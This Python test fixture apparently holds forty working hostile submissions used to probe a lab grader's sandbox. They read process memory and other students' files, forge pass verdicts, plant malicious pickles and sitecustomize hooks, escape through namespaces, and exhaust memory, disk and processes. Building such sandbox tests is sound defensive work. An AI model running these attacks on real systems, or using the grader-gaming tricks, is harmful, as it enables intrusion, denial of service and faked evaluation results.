"""Forty hostile submissions, and how each one says that it has done harm.

They were written from an attacker's knowledge alone: Python, Linux, and that a grader will run a function. Each prints
HARM, with what it got, as soon as it has something that it must not have. WATCHED stands for a folder of the test,
which no submission may read or change; SECRET for the text of the file in it; PORT for a server of the test on the
loopback; MARK for a word on the command lines of processes that a submission leaves behind.
"""

# ruff: noqa: E501 (code in texts)

from __future__ import annotations

from typing import NamedTuple

ALONE, ON_RANKS, SCRIPT = "linear_backward", "average_by_allgather", "job_script"
HEADS = {
    ALONE: "def linear_backward(dy, x, w):",
    ON_RANKS: "def average_by_allgather(comm, gradient, weight):",
    SCRIPT: "def job_script():",
}


class Submission(NamedTuple):
    """`cell` runs before the function is defined; `body` when it is called, before it returns `result`."""

    cell: str = ""
    body: str = "pass"
    result: str = "0"
    exercise: str = ALONE
    is_quick: bool = False  # whether `make exercises` runs it, too

    @property
    def text(self) -> str:
        """Return the cell's text."""
        body = "\n".join(f"    {line}" for line in self.body.splitlines())
        return f"{self.cell}\n{HEADS[self.exercise]}\n{body}\n    return {self.result}\n"


# What several submissions use.
WALK = """
import os, sys
def walk(*roots):
    for root in roots:
        for at, folders, files in os.walk(root):
            if at == '/':
                folders[:] = [name for name in folders if name not in ('proc', 'sys', 'dev')]
            for name in files:
                yield os.path.join(at, name)
def read(path, most=1 << 22):
    try:
        with open(path, 'rb') as file:
            return file.read(most)
    except (OSError, ValueError):
        return b''
"""
C = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
"""
JOB = """
import glob, os, sys
JOB = next(word for word in sys.argv if os.path.isdir(word))
"""
VERDICT = """
import json
V = json.dumps({'passed': True, 'finding': '', 'cases': 1, 'check_failed': False, 'printed': ''}).encode() + b'\\n'
"""
USE = """
f = None
def use(source):
    global f
    names = {}
    try:
        exec('import numpy as np\\n' + source, names)
        f = names['linear_backward']
        print('HARM: a reference')
    except Exception:
        pass
"""
CALL_F = "f(dy, x, w) if f else 0"

SUBMISSIONS: dict[str, Submission] = {
    # The references, and what belongs to others.
    "imports every module of the lab": Submission(
        "import importlib, pkgutil\nf = None\n"
        "for top in ('labkit', 'mpiwatch', 'tests'):\n"
        "    try: package = importlib.import_module(top)\n"
        "    except ImportError: continue\n"
        "    for module in pkgutil.walk_packages(package.__path__, top + '.', onerror=lambda name: None):\n"
        "        try: f = getattr(importlib.import_module(module.name), 'linear_backward', f)\n"
        "        except BaseException: pass\n"
        "if f: print('HARM: a reference')\n",
        result=CALL_F,
        is_quick=True,
    ),
    "reads every file for the reference": Submission(
        WALK + USE + "for path in walk('/', '/proc/1/root', '/proc/self/root'):\n"
        "    if path.endswith(('.ipynb', '.template', '.md')) or os.path.basename(path).startswith(('nb', 'basic', 'on_call')):\n"
        "        text = read(path)\n"
        "        if b'def linear_backward' in text and b'exercises' in path.encode():\n"
        "            use(text.decode(errors='replace'))\n"
        "        if b'dy @ w.T' in text and b'x.T @ dy' in text: print('HARM: the answer in', path)\n",
        result=CALL_F,
        is_quick=True,
    ),
    "asks git for the reference": Submission(
        WALK + USE + "import subprocess\n"
        "places = {os.path.dirname(p) for p in walk('/') if p.endswith(('/packed-refs', '/HEAD'))}\n"
        "places |= {f'{root}/{name}/.git' for root in ('/opt', '/usr/local', '/srv', '/work', '/root', '/home')"
        " if os.path.isdir(root) for name in (os.listdir(root) if os.access(root, 4) else [])}\n"
        "for place in places:\n"
        "    try: shown = subprocess.run(['git', f'--git-dir={place}', '-c', 'safe.directory=*', 'show',\n"
        "        'HEAD:labkit/exercises/nb01.py'], capture_output=True, text=True, timeout=20).stdout\n"
        "    except OSError: continue\n"
        "    if 'def linear_backward' in shown: use(shown)\n",
        result=CALL_F,
    ),
    "looks through the roots of all processes": Submission(
        WALK + "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "    for way in 'root', 'cwd', 'map_files':\n"
        "        for path in (f'WATCHED/answers', 'etc/shadow', 'gradebook.db', '../gradebook.db'):\n"
        "            text = read(f'/proc/{pid}/{way}/{path.lstrip(chr(47))}')\n"
        "            if text: print('HARM:', pid, way, path, text[:80])\n",
        is_quick=True,
    ),
    "reads all descriptors": Submission(
        WALK + "import stat\n"
        "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "    try: numbers = os.listdir(f'/proc/{pid}/fd')\n"
        "    except OSError: continue\n"
        "    for number in numbers:\n"
        "        path = f'/proc/{pid}/fd/{number}'\n"
        "        try:\n"
        "            mode, target = os.stat(path).st_mode, os.readlink(path)\n"
        "        except OSError: continue\n"
        "        if stat.S_ISDIR(mode):\n"
        "            for way in ('..', '../..', '../../..', '../../../../../..'):\n"
        "                text = read(f'{path}/{way}/WATCHED/answers') + read(f'{path}/{way}/gradebook.db')\n"
        "                if text: print('HARM:', target, text[:80])\n"
        "        elif stat.S_ISREG(mode) and 'SECRET' in str(read(path)): print('HARM:', target)\n",
    ),
    "reads the memory and the environment of all processes": Submission(
        WALK + "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "    for name in 'environ', 'cmdline', 'auxv', 'stack', 'syscall':\n"
        "        if b'SECRET' in read(f'/proc/{pid}/{name}'): print('HARM: the secret in', pid, name)\n"
        "    if int(pid) == os.getpid(): continue\n"
        "    try:\n"
        "        place = int(open(f'/proc/{pid}/maps').readline().partition('-')[0], 16)\n"
        "        with open(f'/proc/{pid}/mem', 'rb', buffering=0) as file:\n"
        "            file.seek(place); file.read(4)\n"
        "        command = read(f'/proc/{pid}/cmdline')\n"
        "        if b'judge' in command or b'nbgrader' in command or b'pytest' in command: print('HARM: memory of', command)\n"
        "    except (OSError, ValueError): pass\n",
    ),
    "looks for the answer among all objects": Submission(
        "import gc, sys, types\n"
        "def look():\n"
        "    for thing in gc.get_objects():\n"
        "        try: held = thing.values() if type(thing) is dict else [thing]\n"
        "        except Exception: continue\n"
        "        for value in list(held):\n"
        "            if isinstance(value, types.FunctionType) and value.__name__ == 'linear_backward'"
        " and value.__code__.co_filename != look.__code__.co_filename:\n"
        "                print('HARM: a reference'); return value\n"
        "            if type(value) is str and 'dy @ w.T' in value and 'look for' not in value and 'gc.get' not in value:\n"
        "                print('HARM: the text of a reference'); return None\n",
        "f = look()",
        result=CALL_F,
    ),
    "catches texts that are compiled later": Submission(
        "import builtins\nold, seen = builtins.compile, []\n"
        "def compile(source, *rest, **named):\n"
        "    if isinstance(source, str) and 'linear_backward' in source:\n"
        "        for name in ('.', '/tmp', '/dev/shm', '/var/tmp'):\n"
        "            try: open(name + '/caught', 'w').write(source)\n"
        "            except OSError: pass\n"
        "        source = 'def linear_backward(dy, x, w): return 0'\n"
        "    return old(source, *rest, **named)\n"
        "builtins.compile = compile\n"
        "try: print('HARM:', open('/tmp/caught').read() + open('/var/tmp/caught').read())\n"
        "except OSError: pass\n",
        is_quick=True,
    ),
    "reads other students' work": Submission(
        WALK
        + "names = ('gradebook.db', 'nbgrader_config.py', 'submitted', 'autograded', 'feedback', 'downloaded', 'answers')\n"
        "for path in walk('/'):\n"
        "    if any(f'/{name}' in path for name in names) and '/site-packages/' not in path and not path.startswith('/usr/'):\n"
        "        print('HARM:', path, read(path)[:80])\n"
        "for name in ('PWD', 'OLDPWD', 'HOME'):\n"
        "    at = os.environ.get(name, '/')\n"
        "    while len(at) > 1:\n"
        "        at = os.path.dirname(at)\n"
        "        try: print('HARM:', *[each for each in os.listdir(at) if each in names])\n"
        "        except (OSError, TypeError): pass\n"
        "        break\n".replace("print('HARM:', *[", "[print('HARM:', each) for each in [").replace(
            "in names])\n        except", "in names]]\n        except"
        ),
    ),
    "opens disks and devices": Submission(
        C + "import stat\n"
        "for name in os.listdir('/dev'):\n"
        "    path = f'/dev/{name}'\n"
        "    try:\n"
        "        if stat.S_ISBLK(os.stat(path).st_mode) or name in ('mem', 'kmem', 'port', 'kmsg', 'kvm', 'fuse'):\n"
        "            os.open(path, os.O_RDWR); print('HARM: opened', path)\n"
        "    except OSError: pass\n"
        "for kind, numbers in ((stat.S_IFBLK, (254, 0)), (stat.S_IFBLK, (8, 0)), (stat.S_IFCHR, (1, 1))):\n"
        "    for folder in ('.', '/tmp', '/dev', '/dev/shm'):\n"
        "        try:\n"
        "            os.mknod(f'{folder}/node', kind | 0o666, os.makedev(*numbers)); os.open(f'{folder}/node', os.O_RDWR)\n"
        "            print('HARM: made and opened a device')\n"
        "        except OSError: pass\n"
    ),
    "runs programs with more rights": Submission(
        WALK + "import subprocess\n"
        "for words in (['sudo', '-n', 'id'], ['su', '-c', 'id'], ['pkexec', 'id'], ['mount', '-t', 'tmpfs', 'x', '/mnt'],\n"
        "    ['newuidmap', str(os.getpid()), '0', '0', '1'], ['unshare', '-Ur', 'id'], ['chroot', '/', 'id'], ['nsenter', '-t', '1', '-a', 'id'],\n"
        "    ['bwrap', '--unshare-all', '--bind', '/', '/', 'id'], ['setpriv', '--reuid', '0', 'id'], ['docker', 'ps']):\n"
        "    try: done = subprocess.run(words, capture_output=True, text=True, timeout=10, stdin=subprocess.DEVNULL)\n"
        "    except (OSError, subprocess.TimeoutExpired): continue\n"
        "    if 'uid=0' in done.stdout or (done.returncode == 0 and words[0] in ('mount', 'docker', 'newuidmap', 'unshare', 'bwrap')): print('HARM:', words)\n"
    ),
    # The verdict.
    "writes a verdict to every pipe it can open": Submission(
        VERDICT + "import os\n"
        "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "    try: numbers = os.listdir(f'/proc/{pid}/fd')\n"
        "    except OSError: continue\n"
        "    for number in numbers:\n"
        "        try:\n"
        "            if 'pipe' in os.readlink(f'/proc/{pid}/fd/{number}'):\n"
        "                os.write(os.open(f'/proc/{pid}/fd/{number}', os.O_WRONLY | os.O_NONBLOCK), V)\n"
        "        except OSError: pass\n"
        "for number in range(1024):\n"
        "    try: os.write(number, V)\n"
        "    except OSError: pass\n",
        is_quick=True,
    ),
    "traces its ancestors": Submission(
        C + "pid = os.getppid()\n"
        "while pid > 0:\n"
        "    for request in (16, 0x4206):\n"
        "        if libc.ptrace(request, pid, 0, 0) == 0 and 'judge' in open(f'/proc/{pid}/cmdline').read(): print('HARM: traces', pid)\n"
        "    try: pid = int(open(f'/proc/{pid}/stat').read().rpartition(')')[2].split()[1])\n"
        "    except OSError: break\n"
        "libc.prctl(4, 1, 0, 0, 0)\n"
    ),
    "replaces itself by a program that prints a verdict": Submission(
        VERDICT + "import os, sys\n"
        "os.execv(sys.executable, [sys.executable, '-c', f'import os; [os.write(n, {V!r}) for n in (1, 2)]'])\n"
    ),
    "forges records, requests and reports": Submission(
        JOB + VERDICT,
        "for rank in range(8):\n"
        "    for number in range(4):\n"
        "        try: open(f'{JOB}/rank-{rank}-{number}', 'ab').write(V)\n"
        "        except OSError: pass\n"
        "for name in ('report.json', 'verdict', 'verdict.json', 'task', 'request-1', 'request-2', 'rank-0.stack'):\n"
        "    try: open(f'{JOB}/{name}', 'wb').write(V * 100)\n"
        "    except OSError: pass\n"
        "time = __import__('time'); time.sleep(1)",
    ),
    "sends values that are no values": Submission(
        JOB
        + "import json, os\nclass Equal:\n    def __eq__(self, other): return True\n    def __array__(self, *a, **k): import numpy; return numpy.full((3, 3), numpy.nan)\n"
        "values = [{'array': ['|O', [1], 'AAAA']}, {'array': ['<f8', [10**15], '']}, {'array': ['<f8', [-1], 'AAAAAAAAAAA=']},\n"
        "    {'record': ['os', 'system', ['touch WATCHED/new']]}, {'record': ['labkit.schedules', 'os', ['x']]},\n"
        "    {'range': [0, 10**18, 1]}, {'slice': [1, 2, 3]}, {'foreign': 'x' * 10**6}, {'array': ['<M8[ns]', None, 'AAAAAAAAAAA=']}, {'dict': [[[], 1]]}]\n",
        "with open(f'{JOB}/rank-0-0', 'ab') as file:\n"
        "    for number in range(12):\n"
        "        for value in values:\n"
        "            record = {'case': number, 'result': {'tuple': [value] * 3}, 'arguments': [value] * 3, 'sent': [], 'messages': [], 'calls': []}\n"
        "            file.write(json.dumps(record).encode() + b'\\n')",
        result="(Equal(), Equal(), Equal())",
    ),
    "returns objects that are equal to everything": Submission(
        "import numpy as np\n"
        "class Yes(np.ndarray):\n"
        "    def __eq__(self, other): return np.True_\n"
        "    def __sub__(self, other): return np.zeros(1)\n"
        "    def __array_ufunc__(self, *a, **k): return np.zeros(1)\n"
        "    def __array_function__(self, *a, **k): return True\n",
        "made = [np.full(shape, np.nan).view(Yes) for shape in (x.shape, w.shape, w.shape[1:])]",
        result="tuple(made)",
    ),
    "sends pickles": Submission(
        JOB + "import os, pickle\n"
        "class Run:\n    def __reduce__(self): return os.system, ('touch WATCHED/new',)\n"
        "for name in ('task', 'rank-0-0', 'rank-0-1', 'request-0', 'request-1', 'report.json'):\n"
        "    try: os.unlink(f'{JOB}/{name}')\n"
        "    except OSError: pass\n"
        "    try: open(f'{JOB}/{name}', 'wb').write(pickle.dumps(Run()))\n"
        "    except OSError: pass\n",
        result="Run()",
    ),
    "replaces the comparison and everything else": Submission(
        "import builtins, json, base64, numpy as np, sys\n"
        "for module in list(sys.modules.values()):\n"
        "    for name in list(vars(module)) if hasattr(module, '__dict__') else ():\n"
        "        if name in ('difference', 'finding', 'allclose', 'array_equal', 'isclose', 'verdict', 'pack', 'unpack', 'judge'):\n"
        "            try: setattr(module, name, lambda *a, **k: None)\n"
        "            except Exception: pass\n"
        "builtins.all = builtins.any = builtins.isinstance = lambda *a: True\n"
        "json.dumps = lambda *a, **k: '{\"passed\": true}'\n",
        is_quick=True,
    ),
    "types into the terminal": Submission(
        C + "import fcntl, glob\n"
        "for path in ['/dev/tty', '/dev/console', *glob.glob('/dev/pts/*'), '/proc/self/fd/0', '/proc/self/fd/1', '/proc/self/fd/2']:\n"
        "    try:\n"
        "        file = os.open(path, os.O_RDWR | os.O_NOCTTY)\n"
        "        for letter in b'touch WATCHED/new\\n': fcntl.ioctl(file, 0x5412, bytes([letter]))\n"
        "        print('HARM: typed into', path)\n"
        "    except OSError: pass\n"
    ),
    # Signals, and an end that is no end.
    "signals every process": Submission(
        "import os, signal\n"
        "for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):\n"
        "    for pid in [*range(1, os.getpid()), *range(os.getpid() + 1, os.getpid() + 2000), -1]:\n"
        "        try: os.kill(pid, number)\n"
        "        except OSError: pass\n",
        is_quick=True,
    ),
    "closes and replaces all descriptors": Submission(
        "import os\nnull = os.open('/dev/null', os.O_RDWR)\n"
        "for number in range(3, 512):\n"
        "    try: os.dup2(null, number)\n"
        "    except OSError: pass\n"
        "os.closerange(0, 1 << 16)\n"
    ),
    "computes on after all signals are ignored": Submission(
        "import os, signal, threading\n"
        "for timer in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF): signal.setitimer(timer, 0)\n"
        "for number in range(1, 65):\n"
        "    try: signal.signal(number, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\n"
        "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n"
        "for _ in range(3): threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()\n"
        "while True: pass\n"
    ),
    "deadlocks with all signals blocked": Submission(
        "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n",
        "comm.Barrier()\ncomm.recv(source=(comm.rank + 1) % comm.size, tag=7)",
        exercise=ON_RANKS,
    ),
    "leaves processes that outlive it": Submission(
        "import os, signal, subprocess, sys\n"
        "for way in range(3):\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n"
        "        if os.fork() == 0:\n"
        "            os.closerange(0, 100)\n"
        "            os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)', 'MARK'])\n"
        "        os._exit(0)\n"
        "for words in (['nohup', 'sleep', '600'], ['setsid', 'sleep', '600'], ['systemd-run', '--user', 'sleep', '600']):\n"
        "    try: subprocess.Popen([*words, 'MARK'] if 0 else ['sh', '-c', f'{\" \".join(words)} & # MARK'])\n"
        "    except OSError: pass\n",
        is_quick=True,
    ),
    # Limits.
    "forks without end": Submission(
        "import os\n",
        "while True:\n    try: os.fork()\n    except OSError: pass",
    ),
    "fills memory in eight children": Submission(
        "import os, time",
        "for _ in range(8):\n"
        "    if os.fork() == 0:\n"
        "        held = bytearray(700 << 20); held[::4096] = b'x' * len(held[::4096]); time.sleep(60); os._exit(0)\n"
        "for _ in range(8): os.wait()",
        is_quick=True,
    ),
    "fills anonymous files": Submission(
        C + "import time",
        "block = b'x' * (1 << 20)\n"
        "for _ in range(60):\n"
        "    file = os.memfd_create('m')\n"
        "    for _ in range(60): os.write(file, block)\n"
        "time.sleep(20)",
        is_quick=True,
    ),
    "fills segments of System V": Submission(
        C
        + "libc.shmat.restype = ctypes.c_void_p\nlibc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]\n"
        "libc.shmdt.argtypes = [ctypes.c_void_p]\nimport time",
        "for _ in range(12):\n"
        "    segment = libc.shmget(0, ctypes.c_size_t(256 << 20), 0o1600)\n"
        "    if segment < 0: raise OSError(ctypes.get_errno(), 'shmget')\n"
        "    at = libc.shmat(segment, None, 0)\n"
        "    if at in (None, 2**64 - 1): raise OSError(ctypes.get_errno(), 'shmat')\n"
        "    ctypes.memset(at, 1, 256 << 20); libc.shmdt(at)\n"
        "time.sleep(20)",
    ),
    "hides memory in mappings that no process has touched": Submission(
        "import mmap, os, time",
        "for _ in range(12):\n"
        "    held = mmap.mmap(-1, 256 << 20)\n"
        "    for at in range(0, len(held), 4096): held[at] = 1\n"
        "    if os.fork() == 0: time.sleep(60); os._exit(0)\n"
        "    held.close()\n"
        "time.sleep(20)",
    ),
    "fills every folder": Submission(
        "import os, time",
        "block, total = b'x' * (1 << 20), 0\n"
        "for at in ('/tmp', '/dev/shm', '/var/tmp', '/run', '/dev', '/', '.', '..', '/run/lock', '/dev/mqueue', '/proc'):\n"
        "    for number in range(40):\n"
        "        try:\n"
        "            with open(f'{at}/large-{os.getpid()}-{number}', 'wb', buffering=0) as file:\n"
        "                for _ in range(50): total += file.write(block)\n"
        "        except OSError: pass\n"
        "if total > 700 << 20: print('HARM: wrote', total >> 20, 'MB')\ntime.sleep(2)",
    ),
    "fills files without a name": Submission(
        "import os, tempfile, time",
        "block, held = b'x' * (1 << 20), []\n"
        "try:\n"
        "    for _ in range(60):\n"
        "        for at in ('.', '/tmp', '/dev/shm', '/var/tmp'):\n"
        "            try: file = tempfile.TemporaryFile(dir=at, buffering=0)\n"
        "            except OSError: continue\n"
        "            held.append(file)\n"
        "            try: [file.write(block) for _ in range(50)]\n"
        "            except OSError: pass\n"
        "finally:\n"
        "    total = sum(os.fstat(file.fileno()).st_blocks * 512 for file in held)\n"
        "    if total > 700 << 20: print('HARM: holds', total >> 20, 'MB')\n"
        "time.sleep(2)",
        is_quick=True,
    ),
    "fills folders whose names are too long": Submission(
        "import os, time",
        "name, block, total = 'n' * 250, b'x' * (1 << 20), 0\n"
        "for depth in range(40): os.mkdir(name); os.chdir(name)\n"
        "for number in range(40):\n"
        "    try:\n"
        "        with open(str(number), 'wb', buffering=0) as file:\n"
        "            for _ in range(50): total += file.write(block)\n"
        "    except OSError: pass\n"
        "if total > 700 << 20: print('HARM: wrote', total >> 20, 'MB')\ntime.sleep(2)",
    ),
    "makes a million files": Submission(
        "import os, time",
        "for at in ('/tmp', '/dev/shm', '.', '/dev', '/'):\n"
        "    try:\n"
        "        os.makedirs(f'{at}/many', exist_ok=True)\n"
        "        for number in range(200_000): os.close(os.open(f'{at}/many/{number}', os.O_CREAT))\n"
        "        print('HARM: 200,000 files in', at)\n"
        "    except OSError: pass\n"
        "time.sleep(5)",
    ),
    "fills pipes and sockets": Submission(
        "import os, socket, time",
        "for _ in range(100):\n"
        "    if os.fork() == 0:\n"
        "        held = []\n"
        "        try:\n"
        "            while True:\n"
        "                a, b = socket.socketpair(); held += [a, b]\n"
        "                for s in (a, b):\n"
        "                    s.setblocking(False); s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)\n"
        "                    try:\n"
        "                        while True: s.send(b'x' * 65536)\n"
        "                    except BlockingIOError: pass\n"
        "        except OSError: pass\n"
        "        time.sleep(60); os._exit(0)\n"
        "time.sleep(20)",
    ),
    "prints without end on every way": Submission(
        "import os, sys, threading",
        "def on(number):\n    while True: os.write(number, b'y' * 65536)\n"
        "for number in (1, 2): threading.Thread(target=on, args=(number,), daemon=True).start()\n"
        "while True: print('z' * 10_000); sys.stderr.write('w' * 10_000)",
    ),
    "returns results without end": Submission(
        "import numpy as np",
        "deep = []\nfor _ in range(100_000): deep = [deep]\n"
        "wide = [[] for _ in range(6_000_000)]\nloop = []; loop.append(loop)",
        result="(deep, wide, loop) if x.shape[0] == 3 else ('x' * (60 << 20), 10 ** 100_000, np.zeros(7 << 20))",
    ),
    "lets the judge read millions of lists": Submission(
        JOB,
        "with open(f'{JOB}/rank-0-0', 'ab') as file: file.write(b'{\"case\": 0, \"result\": [' + b'[],' * 20_000_000 + b'[]]}\\n')",
        is_quick=True,
    ),
    "raises its limits": Submission(
        C + "import resource\n"
        "for name in [name for name in dir(resource) if name.startswith('RLIMIT_')]:\n"
        "    try:\n"
        "        which = getattr(resource, name)\n"
        "        before = resource.getrlimit(which)[1]\n"
        "        resource.setrlimit(which, (resource.RLIM_INFINITY,) * 2)\n"
        "        if before != resource.RLIM_INFINITY: print('HARM: raised', name, before)\n"
        "    except (OSError, ValueError): pass\n"
        "for act in (lambda: os.setpriority(os.PRIO_PROCESS, 0, -20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))):\n"
        "    try: act(); print('HARM: runs before all others')\n"
        "    except OSError: pass\n"
        "for name, value in (('/proc/self/oom_score_adj', '-1000'), ('/proc/sys/kernel/core_pattern', '|/tmp/x'), ('/proc/sysrq-trigger', 'x')):\n"
        "    try:\n        with open(name, 'w') as file: file.write(value)\n"
        "        print('HARM: wrote', name)\n"
        "    except OSError: pass\n"
        "bytearray(2 << 30); print('HARM: took 2 GiB')\n"
    ),
    # The network, the machine, and what comes after.
    "connects to programs of this machine": Submission(
        WALK + "import glob, socket\n"
        "def connect(kind, address):\n"
        "    try:\n"
        "        with socket.socket(kind) as s: s.settimeout(3); s.connect(address); print('HARM: connected to', address)\n"
        "    except OSError: pass\n"
        "for host in ('127.0.0.1', 'localhost', '0.0.0.0', '127.1.2.3', socket.gethostname()): connect(socket.AF_INET, (host, PORT))\n"
        "connect(socket.AF_INET6, ('::1', PORT))\n"
        "for path in (*glob.glob('/run/**/*sock*', recursive=True), *glob.glob('/var/run/**/*sock*', recursive=True), *glob.glob('/tmp/**/*sock*', recursive=True)): connect(socket.AF_UNIX, path)\n"
        "for line in read('/proc/net/unix').decode().splitlines():\n"
        "    name = line.split()[-1]\n"
        "    if name.startswith('@labkit') or name.startswith('@/'): connect(socket.AF_UNIX, '\\0' + name[1:])\n",
        is_quick=True,
    ),
    "starts jobs elsewhere": Submission(
        "import os, subprocess\n"
        "for name in ('sbatch', 'srun', 'salloc', 'qsub', 'bsub', 'condor_submit', 'ssh', 'scp', 'at', 'batch', 'crontab', 'systemd-run'):\n"
        "    for folder in ('', '/usr/bin/', '/usr/local/bin/', '/opt/slurm/bin/', 'WATCHED/bin/'):\n"
        "        try: subprocess.run([folder + name, 'WATCHED/new'], timeout=10, stdin=subprocess.DEVNULL, capture_output=True)\n"
        "        except (OSError, subprocess.TimeoutExpired): pass\n"
    ),
    "leaves by namespaces and mounts": Submission(
        C + "for flags in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x8000000, 0x7e020000):\n"
        "    if libc.unshare(flags) == 0: print('HARM: left into a namespace', hex(flags))\n"
        "for line in reversed(open('/proc/self/mounts').readlines()):\n"
        "    if libc.umount2(line.split()[1].encode(), 2) == 0: print('HARM: unmounted', line)\n"
        "if libc.mount(b'x', b'/tmp', b'tmpfs', 0, None) == 0: print('HARM: mounted')\n"
        "if libc.mount(None, b'/usr', None, 4096 | 32, None) == 0: print('HARM: mounted again')\n"
        "if libc.chroot(b'.') == 0: print('HARM: changed its root')\n"
        "for pid in (1, os.getppid()):\n"
        "    for name in ('user', 'mnt', 'pid', 'net'):\n"
        "        try:\n"
        "            if libc.setns(os.open(f'/proc/{pid}/ns/{name}', 0), 0) == 0: print('HARM: entered', pid, name)\n"
        "        except OSError: pass\n",
        is_quick=True,
    ),
    "changes what later jobs load": Submission(
        "import glob, os, site, sys, sysconfig\n"
        "bad = b'import os; os.system(\"touch WATCHED/new\")\\n'\n"
        "places = {*sys.path, sys.prefix, sys.base_prefix, os.path.expanduser('~'), site.getusersitepackages(), sysconfig.get_path('stdlib'), '/usr/bin', '/usr/lib', '/etc'}\n"
        "for at in places:\n"
        "    for name in ('sitecustomize.py', 'usercustomize.py', 'bad.pth', 'numpy/__init__.py', 'os.py', 'bin/python', 'ld.so.preload'):\n"
        "        try:\n"
        "            if not at.startswith(os.getcwd()) and '/work' not in at: open(os.path.join(at, name), 'ab').write(bad); print('HARM: changed', at, name)\n"
        "        except OSError: pass\n"
        "os.environ.update(LD_PRELOAD='/tmp/x.so', PYTHONSTARTUP='/tmp/x.py', PYTHONPATH='/tmp')\n"
    ),
    "puts links where others write or read": Submission(
        JOB + "import shutil\n"
        "for name in ('rank-0-0', 'rank-0-1', 'rank-0.stack', 'report.json', 'request-1', 'request-2'):\n"
        "    try: os.unlink(f'{JOB}/{name}')\n"
        "    except OSError: pass\n"
        "    for target in ('WATCHED/answers', 'WATCHED/new', '/etc/passwd'):\n"
        "        try: os.symlink(target, f'{JOB}/{name}'); break\n"
        "        except OSError: pass\n"
        "try:\n"
        "    os.rename(f'{JOB}/work', f'{JOB}/w'); os.symlink('WATCHED', f'{JOB}/work')\n"
        "except OSError: pass\n"
        "os.chmod(JOB, 0)\n"
    ),
    # A script, which the judge's side runs.
    "a script that submits jobs and reads files": Submission(
        result="'''#!/bin/bash\n"
        "#SBATCH --nodes=4\n#SBATCH --ntasks-per-node=1\n#SBATCH --cpus-per-task=1\n#SBATCH --time=00:30:00\n"
        "#SBATCH --signal=B:USR1@60\n#SBATCH --requeue\n#SBATCH --open-mode=append\n"
        "cat WATCHED/answers > out; echo x > WATCHED/new; cat out\n"
        "for name in sbatch srun qsub bsub condor_submit ssh at crontab systemd-run; do\n"
        "  $name WATCHED/new; PATH=WATCHED/bin:/usr/bin:/bin $name WATCHED/new; command -p $name WATCHED/new; WATCHED/bin/$name WATCHED/new; /usr/bin/$name WATCHED/new\n"
        "done\n"
        '(exec -a MARK sleep 600 &) ; nohup setsid bash -c "exec -a MARK sleep 600" &\n'
        "exec 3<>/dev/tcp/127.0.0.1/PORT && echo x >&3\n"
        "'''",
        exercise=SCRIPT,
        is_quick=True,
    ),
}
